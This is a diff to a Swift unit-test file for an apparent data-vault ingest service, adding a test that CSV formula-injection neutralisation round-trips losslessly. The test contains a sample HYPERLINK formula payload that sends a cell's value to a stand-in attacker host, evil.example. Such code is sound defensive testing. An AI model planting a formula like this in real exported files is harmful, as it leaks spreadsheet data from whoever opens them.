@@ -1,3 +1,4 @@
+import CustosBase
 @testable import CustosEngine
 import CustosSchema
 import CustosVault
@@ -87,6 +88,26 @@ final class IngestTests: XCTestCase {
             }
         }
         XCTAssertEqual(try ws.records.allSubjects().count, 0, "nothing stored")
+    }
+
+    func testNeutralisedFormulaCellsRoundTripThroughIngestLosslessly() throws {
+        // Every CSV Custos writes neutralises =, +, -, @ (a leading '); ingest removes it again.
+        let ws = try makeWorkspace()
+        let dataset = try ws.catalog.dataset("customers")
+        let hostile = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
+        var writer = CSVWriter(header: dataset.columns.map(\.name))
+        writer.append(["C1", "c1@example.se", "+46701234567", hostile, "1980-01-01", "111", "SE", "female", "2024-01-01", "none"])
+        writer.append(["C2", "c2@example.se", "", "'=already quoted", "1980-01-01", "111", "SE", "male", "2024-01-01", "none"])
+        XCTAssertTrue(writer.text.contains("\"'=HYPERLINK("), writer.text)
+        let url = try write(writer.text, name: "roundtrip.csv", in: ws)
+        _ = try IngestService(vault: ws.vault).ingest(file: url, dataset: dataset)
+        var names: [String] = []
+        let grant = ws.authority.issue(decisionID: "d-test", principal: "tester", role: "operator", purpose: "test", dataset: "customers",
+                                       treatments: ["full_name": .allow, "phone": .allow], outputMode: .pseudonymousRecords, policyVersion: "v-test")
+        _ = try ws.vault.read(grant, dataset: dataset, columns: ["full_name", "phone"]) { _, values in
+            names.append(values[0].rendered(scale: 0))
+        }
+        XCTAssertEqual(Set(names), [hostile, "'=already quoted"])
     }
 
     func testHeaderMustNameDeclaredColumns() throws {
